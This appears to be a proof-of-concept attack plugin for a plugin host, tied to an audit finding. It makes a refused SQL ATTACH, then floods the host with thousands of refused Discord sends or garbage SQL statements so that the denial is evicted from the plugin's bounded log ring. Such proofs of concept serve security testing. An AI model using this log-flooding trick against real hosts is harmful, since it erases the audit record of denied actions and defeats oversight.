# Wiping the host's record of a refusal (issue 14 attack, position 1
# finding 5): try an ATTACH (the host logs "denied: ... ATTACH ..."), then
# make thousands of refused discord.send_message calls (no capability), or
# of refused statements each with another first word, so that their host
# lines evict the ATTACH line from the plugin's log ring.
from maid_sdk import Plugin

plugin = Plugin()


@plugin.on_dashboard("wipe")
def wipe(ctx, params):
    attach = ""
    try:
        ctx.sql.execute("ATTACH DATABASE '/tmp/other.db' AS other")
    except Exception as e:
        attach = str(e)
    refused = 0
    for i in range(params.get("n", 2000)):
        try:
            if params.get("mode") == "sql":
                # A different refused statement each time: its first word
                # is in the host's line ("denied: sql: QX statements ...").
                word = "".join("QWERTYUIOPASDFGHJKLZ"[int(d)] for d in str(i))
                ctx.sql.execute("Q" + word + " x")
            else:
                ctx.discord.send_message("123456789012345678", "spam %d" % i)
        except Exception:
            refused += 1
    return {"attach": attach, "refused": refused}


plugin.run()
